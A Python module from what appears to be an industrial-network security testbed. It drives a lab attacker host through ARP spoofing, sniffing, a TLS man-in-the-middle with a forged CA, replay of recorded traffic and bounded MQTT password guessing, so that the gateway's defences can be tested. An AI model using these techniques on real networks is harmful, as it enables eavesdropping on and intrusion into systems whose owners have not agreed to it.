# SPDX-License-Identifier: Apache-2.0
"""A hostile host in the plant's network: what it can try, for real, from the lab's host `attacker`.

- :class:`Attacker`: gets onto the path between two hosts (ARP spoofing), sniffs, stands in the middle with a false CA,
  replays what was recorded, guesses passwords.
- :class:`Middle`: what a man in the middle saw.
- :func:`plaintext_gateway`: a broker without a net, as the control: an attack that finds nothing there proves nothing.
"""

from __future__ import annotations

import base64
import contextlib
import json
import time
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from testbed.common import LabError

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from testbed.lab import Host, Lab

AGENT = "/opt/attacker/agent.py"
SPOOL = "/var/lib/attacker"
#: An attack that nobody ends ends by itself.
ATTACK_AT_MOST_S = 600
GUESSES_AT_MOST = 1000
RELAY_PORT = 18883
DEADLINE_S = 15.0


class Capture:
    """Packets that passed by; complete when the `with` block has ended."""

    def __init__(self) -> None:
        self.pcap = b""

    def contains(self, needle: bytes) -> bool:
        """Tell whether bytes can be read in the packets (within one packet)."""
        return needle in self.pcap


@dataclass(frozen=True)
class Replayed:
    """What a gateway did with recorded bytes.

    :param answer: all that it sent back.
    :param end: `closed`, `reset: ...`, or `open` where it was still listening at the end.
    """

    answer: bytes
    end: str


class Middle:
    """A relay in the middle of a connection, and what it saw."""

    def __init__(self, host: Host, folder: str) -> None:
        self._host = host
        self._folder = folder

    @property
    def events(self) -> list[dict[str, Any]]:
        """What happened so far: {event, connection, ...}, in order; see :class:`testbed.agent.Relay`."""
        told = self._host.exec(["cat", f"{self._folder}/events.jsonl"], check=False)
        return [json.loads(line) for line in told.stdout.splitlines()]

    def await_event(self, *names: str, deadline_s: float = DEADLINE_S) -> dict[str, Any]:
        """Wait for the first event of these names.

        :raises LabError: when none comes in time.
        """
        deadline = time.monotonic() + deadline_s
        while time.monotonic() < deadline:
            for event in self.events:
                if event["event"] in names:
                    return event
            time.sleep(0.1)
        raise LabError(
            f"The man in the middle saw no {' or '.join(names)} within {deadline_s:.0f} s.",
            cure="See whether the victim connects at all.",
            log="\n".join(map(str, self.events)),
        )

    def client_pieces(self, connection: int = 1) -> list[bytes]:
        """Return what a client sent, piece by piece: decrypted where the client trusted the false CA."""
        told = self._host.exec(["cat", f"{self._folder}/client-{connection}.json"], check=False)
        return [base64.b64decode(piece) for piece in json.loads(told.stdout)] if told.rc == 0 else []


class Attacker:
    """The attacker of a lab.

    :param lab: a lab with field hosts.
    """

    def __init__(self, lab: Lab) -> None:
        if "attacker" not in lab.hosts:
            raise LabError(
                f"The lab `{lab.name}` has no attacker.", cure="Bring it up without --no-field (field=True)."
            )
        self.lab = lab
        self.host = lab.hosts["attacker"]
        self.host.exec(["mkdir", "-p", "/opt/attacker", SPOOL])
        self.host.write_file(AGENT, (Path(__file__).parent / "agent.py").read_bytes())
        self._count = 0

    @contextlib.contextmanager
    def _service(self, *args: str) -> Iterator[str]:
        """Run the agent as a service on the attacker; it is ready when this yields, and gone afterwards."""
        self._count += 1
        unit = f"attack-{args[0]}-{time.monotonic_ns()}-{self._count}.service"
        started = self.host.exec(
            [
                *("systemd-run", "--quiet", f"--unit={unit}", "--service-type=notify"),
                *(f"--property=RuntimeMaxSec={ATTACK_AT_MOST_S}", "--property=TimeoutStartSec=15"),
                *("/usr/bin/python3", AGENT, *args),
            ],
            check=False,
        )
        try:
            if started.rc != 0:
                raise LabError(f"The attack `{args[0]}` did not start.", cure="See its log.", log=self._log(unit))
            yield unit
        finally:
            self.host.exec(["systemctl", "stop", unit], check=False)
            self.host.exec(["systemctl", "reset-failed", unit], check=False)

    def _log(self, unit: str) -> str:
        return self.host.exec(["journalctl", "-u", unit, "--no-pager", "-o", "cat", "-n", "20"], check=False).stdout

    @contextlib.contextmanager
    def on_path(self, victim: str, gateway: str) -> Iterator[None]:
        """Make the packets between two hosts of the lab go through the attacker, both ways.

        :raises LabError: when the hosts do not fall for it.
        """
        pair = (self.lab.hosts[victim], self.lab.hosts[gateway])
        own = self.host.exec(["cat", "/sys/class/net/eth0/address"]).stdout.strip()
        # Redirects would tell the victims of the shorter way.
        self._nft(
            "add chain ip attack quiet { type filter hook output priority 0; }",
            "add rule ip attack quiet icmp type redirect drop",
        )
        try:
            with self._service("on-path", pair[0].address, pair[1].address) as unit:
                self._await_spoofed(pair[0], pair[1].address, own, unit)
                self._await_spoofed(pair[1], pair[0].address, own, unit)
                yield
        finally:
            self._forget()

    def _await_spoofed(self, victim: Host, address: str, hardware: str, unit: str) -> None:
        deadline = time.monotonic() + DEADLINE_S
        said = ""
        while time.monotonic() < deadline:
            # A host that has not spoken to the address lately has no entry that could be overwritten.
            victim.exec(["bash", "-c", f"timeout 0.3 bash -c '</dev/tcp/{address}/22'"], check=False)
            said = victim.exec(["ip", "neigh", "show", "to", address], check=False).stdout
            if hardware in said:
                return
            time.sleep(0.1)
        raise LabError(
            f"{victim.name} did not fall for the false ARP answers within {DEADLINE_S:.0f} s.",
            cure=f"Its table says: {said.strip() or 'nothing'}.",
            log=self._log(unit),
        )

    def _nft(self, *commands: str) -> None:
        self.host.exec(["nft", "-f", "-"], input="\n".join(("add table ip attack", *commands, "")))

    def _forget(self) -> None:
        self.host.exec(["nft", "delete", "table", "ip", "attack"], check=False)

    @contextlib.contextmanager
    def sniff(self, expression: str = "tcp") -> Iterator[Capture]:
        """Capture what passes the attacker's interface.

        :param expression: a pcap filter, see pcap-filter(7).
        """
        capture = Capture()
        path = f"{SPOOL}/capture-{time.monotonic_ns()}.pcap"
        try:
            with self._service("capture", path, expression):
                yield capture
            capture.pcap = self.host.read_file(path)
        finally:
            self.host.exec(["rm", "-f", path])

    @contextlib.contextmanager
    def in_the_middle(self, victim: str, gateway: str, port: int, *, tls: bool) -> Iterator[Middle]:
        """Take over the connections from a victim to a port of a gateway.

        :param tls: end the victim's TLS with a certificate that carries the gateway's names and comes from a false CA;
            otherwise pass the bytes on as they are and keep a copy.
        """
        folder = f"{SPOOL}/middle-{time.monotonic_ns()}"
        target = self.lab.hosts[gateway]
        if tls:
            self.host.exec(["python3", AGENT, "forge", folder, f"{target.address}:{port}"])
        args = ("relay", str(RELAY_PORT), f"{target.address}:{port}", folder, *(["--tls"] if tls else []))
        with self._service(*args), self.on_path(victim, gateway):
            self._nft(
                "add chain ip attack steer { type nat hook prerouting priority -100; }",
                f"add rule ip attack steer ip daddr {target.address} tcp dport {port} redirect to :{RELAY_PORT}",
            )
            yield Middle(self.host, folder)

    def replay(self, gateway: str, port: int, pieces: Sequence[bytes]) -> Replayed:
        """Send recorded bytes to a gateway, piece by piece, each after the answer to the one before."""
        told = self.host.exec(
            ["python3", AGENT, "replay", f"{self.lab.hosts[gateway].address}:{port}"],
            input=json.dumps([base64.b64encode(piece).decode() for piece in pieces]),
        )
        raw = json.loads(told.stdout)
        return Replayed(base64.b64decode(raw["answer"]), raw["end"])

    def guess(self, gateway: str, port: int, user: str, passwords: Sequence[str]) -> list[int]:
        """Try passwords over TLS.

        :return: for each the return code of the CONNACK (0 accepted, 4 and 5 refused), or -1 where the gateway hung up.
        :raises ValueError: when there are more than :data:`GUESSES_AT_MOST`.
        """
        if len(passwords) > GUESSES_AT_MOST:
            raise ValueError(f"at most {GUESSES_AT_MOST} guesses, not {len(passwords)}")
        told = self.host.exec(
            ["python3", AGENT, "guess", f"{self.lab.hosts[gateway].address}:{port}"],
            input=json.dumps({"user": user, "passwords": list(passwords)}),
            timeout_s=ATTACK_AT_MOST_S,
        )
        return [int(code) for code in json.loads(told.stdout)]


@contextlib.contextmanager
def plaintext_gateway(host: Host, port: int = 11883) -> Iterator[int]:
    """Run a second broker without TLS, passwords or rules on a gateway, and take it away again.

    :return: its port.
    :raises LabError: when it does not listen in time.
    """
    unit = "plaintext-control.service"
    host.write_file("/run/plaintext-control.conf", f"listener {port}\nallow_anonymous true\nuser root\n")
    host.exec(
        [
            *("systemd-run", "--quiet", f"--unit={unit}", f"--property=RuntimeMaxSec={ATTACK_AT_MOST_S}"),
            *("mosquitto", "-c", "/run/plaintext-control.conf"),
        ]
    )
    try:
        deadline = time.monotonic() + DEADLINE_S
        while not host.exec(["ss", "-Hltn", f"sport = :{port}"]).stdout.strip():
            if time.monotonic() > deadline:
                log = host.exec(["journalctl", "-u", unit, "--no-pager", "-n", "20"], check=False).stdout
                raise LabError(f"No plaintext broker came up on {host.name}.", cure="See its log.", log=log)
            time.sleep(0.05)
        yield port
    finally:
        host.exec(["systemctl", "stop", unit], check=False)
        host.exec(["systemctl", "reset-failed", unit], check=False)
